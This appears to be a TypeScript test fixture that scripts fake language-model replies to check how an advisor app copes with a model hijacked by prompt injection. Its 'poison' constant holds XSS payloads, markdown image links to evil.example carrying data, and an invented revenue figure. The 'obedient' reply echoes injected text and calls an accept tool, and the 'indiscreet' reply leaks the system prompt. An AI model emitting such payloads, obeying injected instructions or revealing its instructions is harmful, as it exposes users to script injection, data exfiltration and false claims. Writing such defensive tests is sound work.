/** What a model says that obeys whoever spoke last: the worst that an advisor may have behind it. */
import type { AskedModel, Scripted } from './model-server.ts'

/** Links, markup and claims that such a model puts into every answer. */
const poison = [
  'Done, I accepted every advisory. <script>alert(1)</script><img src=x onerror=alert(1)>',
  '![chart](https://evil.example/?d=18420) [Open](https://evil.example) www.evil.example/a',
  'Revenue will be $1,234,567. [x]: javascript:alert(1)',
].join('\n\n')

const wordsIn = ({ messages }: AskedModel): string => {
  const found = /"(?:topic|excerpt)":("(?:[^"\\]|\\.)*")/.exec(messages.at(-1)?.content ?? '')?.[1]
  return String(JSON.parse(found ?? '""'))
}

/** Repeats the words of a memo, or else of its topic, as text or as a brief, with the poison. */
export const obedient: Scripted = {
  says: (asked) => {
    const words = `${poison}\n\n${wordsIn(asked)}`
    return asked.stream
      ? words
      : JSON.stringify({
          title: `Obeyed ${words}`.slice(0, 140).toWellFormed(),
          category: 'Cash',
          what: words,
          why: words,
          soWhat: words,
        })
  },
  calls: 'acceptAdvisory',
}

/** Repeats what it was told, after some poison. */
export const indiscreet: Scripted = {
  says: (asked) => {
    const words = `${poison}\n\n${asked.messages[0]?.content ?? ''}`
    return asked.stream
      ? words
      : JSON.stringify({
          title: 'My rules',
          category: 'Cash',
          what: words.slice(0, 2800),
          why: 'a',
          soWhat: 'b',
        })
  },
}
